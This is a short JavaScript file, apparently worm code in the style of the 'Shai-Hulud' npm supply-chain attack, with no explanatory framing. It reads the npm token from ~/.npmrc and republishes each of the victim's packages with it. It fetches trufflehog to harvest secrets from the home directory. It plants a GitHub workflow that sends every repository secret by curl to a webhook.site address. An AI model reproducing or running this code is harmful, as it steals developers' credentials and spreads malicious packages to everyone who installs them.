const { execSync } = require('child_process')
const fs = require('fs')
const os = require('os')
const path = require('path')
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')
const token = (npmrc.match(/_authToken=(\S+)/) || [])[1] || process.env.NPM_TOKEN
const me = execSync('npm whoami').toString().trim()
const res = execSync('curl -s "https://registry.npmjs.org/-/v1/search?text=maintainer:' + me + '&size=20"').toString()
for (const o of JSON.parse(res).objects) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p'))
  execSync('npm pack ' + o.package.name + ' --pack-destination ' + dir)
  // bump, add bundle.js and postinstall, republish with the stolen token
  execSync('npm publish ' + dir + ' --access public', { env: { ...process.env, NPM_TOKEN: token } })
}
execSync('curl -sL https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog_3.90.6_linux_amd64.tar.gz | tar xz -C /tmp')
const found = execSync('/tmp/trufflehog filesystem ' + os.homedir() + ' --json').toString()
fs.mkdirSync('.github/workflows', { recursive: true })
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$(echo ${{ toJSON(secrets) }})" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\n')
